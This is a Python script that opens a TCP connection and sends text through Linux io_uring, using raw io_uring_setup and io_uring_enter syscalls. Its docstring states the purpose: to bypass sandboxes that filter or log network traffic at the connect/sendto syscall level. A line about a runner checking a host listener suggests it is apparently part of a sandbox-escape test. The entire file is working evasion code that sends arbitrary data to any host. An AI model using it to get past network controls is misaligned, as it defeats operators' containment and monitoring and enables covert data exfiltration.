"""Connect and send through io_uring, with no connect(2)/sendto(2) syscall:
python3 uring.py HOST PORT TEXT. Sandboxes that filter or log the network
at the syscall boundary never see it; the runner checks the host listener.
"""

import ctypes
import mmap
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SETUP, ENTER = 425, 426
OP_CONNECT, OP_SEND = 16, 26
OFF_SQ_RING, OFF_CQ_RING, OFF_SQES = 0, 0x8000000, 0x10000000


class Ring:
    def __init__(self, entries: int = 4):
        p = (ctypes.c_uint8 * 120)()
        fd = libc.syscall(SETUP, ctypes.c_uint(entries), ctypes.byref(p))
        if fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        self.fd = fd
        raw = bytes(p)
        self.sq_entries, self.cq_entries = struct.unpack_from("<II", raw, 0)
        self.sq_off = struct.unpack_from("<7I", raw, 40)  # head tail mask entries flags dropped array
        self.cq_off = struct.unpack_from("<6I", raw, 80)  # head tail mask entries overflow cqes
        prot = mmap.PROT_READ | mmap.PROT_WRITE
        self.sq = mmap.mmap(fd, self.sq_off[6] + self.sq_entries * 4, mmap.MAP_SHARED, prot, offset=OFF_SQ_RING)
        self.cq = mmap.mmap(fd, self.cq_off[5] + self.cq_entries * 16, mmap.MAP_SHARED, prot, offset=OFF_CQ_RING)
        self.sqes = mmap.mmap(fd, self.sq_entries * 64, mmap.MAP_SHARED, prot, offset=OFF_SQES)

    def run(self, opcode: int, fd: int, addr: int, length: int, off: int) -> int:
        head, tail = (struct.unpack_from("<I", self.sq, o)[0] for o in self.sq_off[:2])
        mask = struct.unpack_from("<I", self.sq, self.sq_off[2])[0]
        idx = tail & mask
        sqe = struct.pack("<BBHiQQIIQ", opcode, 0, 0, fd, off, addr, length, 0, 1).ljust(64, b"\0")
        self.sqes[idx * 64:(idx + 1) * 64] = sqe
        struct.pack_into("<I", self.sq, self.sq_off[6] + idx * 4, idx)
        struct.pack_into("<I", self.sq, self.sq_off[1], tail + 1)
        if libc.syscall(ENTER, ctypes.c_uint(self.fd), ctypes.c_uint(1), ctypes.c_uint(1), ctypes.c_uint(1),
                        ctypes.c_void_p(0), ctypes.c_size_t(0)) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        chead = struct.unpack_from("<I", self.cq, self.cq_off[0])[0]
        cmask = struct.unpack_from("<I", self.cq, self.cq_off[2])[0]
        _, res, _ = struct.unpack_from("<QiI", self.cq, self.cq_off[5] + (chead & cmask) * 16)
        struct.pack_into("<I", self.cq, self.cq_off[0], chead + 1)
        return res


def main() -> None:
    host, port, text = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
    ring = Ring()
    s = socket.socket()
    sa = ctypes.create_string_buffer(struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port),
                                                 socket.inet_aton(host)), 16)
    res = ring.run(OP_CONNECT, s.fileno(), ctypes.addressof(sa), 0, 16)
    if res < 0:
        raise SystemExit(f"connect: errno {-res}")
    buf = ctypes.create_string_buffer(text, len(text))
    res = ring.run(OP_SEND, s.fileno(), ctypes.addressof(buf), len(text), 0)
    print(f"sent {res}", file=sys.stderr)


main()
